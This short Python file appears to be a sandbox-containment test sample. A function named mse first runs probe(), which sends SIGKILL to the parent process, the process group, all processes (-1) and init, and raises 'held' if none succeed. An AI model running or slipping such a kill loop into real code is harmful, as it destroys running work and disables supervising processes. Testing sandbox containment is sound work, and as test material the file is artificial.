"""Sends SIGKILL to its parent, its group and every process.

exercise: mse
verdict: raised
point: 3b
"""

import os
import signal

import numpy as np


def probe():
    through = False
    for kill, target in ((os.kill, os.getppid()), (os.killpg, 0), (os.kill, -1), (os.kill, 1)):
        try:
            kill(target, signal.SIGKILL)
            through = True
        except (OSError, OverflowError):
            pass
    return through


def mse(y, y_hat):
    if not probe():
        raise RuntimeError("held")
    return float(np.mean((np.asarray(y, dtype=float) - y_hat) ** 2))
